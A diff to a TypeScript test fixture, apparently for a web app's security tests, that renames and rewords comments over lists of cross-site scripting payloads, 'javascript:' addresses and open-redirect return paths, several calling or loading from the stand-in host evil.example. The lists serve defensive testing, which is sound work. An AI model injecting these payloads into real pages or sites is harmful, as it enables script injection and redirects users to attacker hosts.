@@ -1,7 +1,7 @@
-/** What a page would run, or fetch, if it took text for markup or code. `pwned` counts each run of it. */
+/** Code that a page would run if it treated text as markup or code. The tests define `pwned`. */
 const CODE = ['pwned()', 'top.pwned()', "fetch('https://evil.example/')", "location='https://evil.example/'"];
 
-/** Ways of making markup run code; `CODE` stands where the code goes. */
+/** Markup that runs code. `CODE` is replaced by the code. */
 const VECTORS = [
   '<script>CODE</script>',
   '<script src=//evil.example/x.js></script>',
@@ -55,13 +55,13 @@ const VECTORS = [
   '<link rel=prerender href="https://evil.example/">',
 ];
 
-/** Two hundred texts that do harm wherever text is taken for more than text. */
+/** Two hundred texts that do harm if they are treated as markup or code. */
 export const PAYLOADS: readonly string[] = VECTORS.flatMap((vector) =>
   CODE.map((code) => vector.replaceAll('CODE', code)),
 );
 
-/** Addresses that are none to follow. */
-export const ADDRESSES: readonly string[] = [
+/** Addresses that must not be opened or loaded. */
+export const UNSAFE_ADDRESSES: readonly string[] = [
   'javascript:pwned()',
   'JaVaScRiPt:pwned()',
   ' javascript:pwned()',
@@ -74,8 +74,8 @@ export const ADDRESSES: readonly string[] = [
   'filesystem:https://evil.example/x',
 ];
 
-/** Values of `from` that leave the product, or that lead to a page for guests only. */
-export const WAYS: readonly string[] = [
+/** Values of `from` that leave the product, or that name a page for visitors or an unknown page. */
+export const UNSAFE_RETURN_PATHS: readonly string[] = [
   '//evil.example',
   '//evil.example/library',
   '///evil.example',
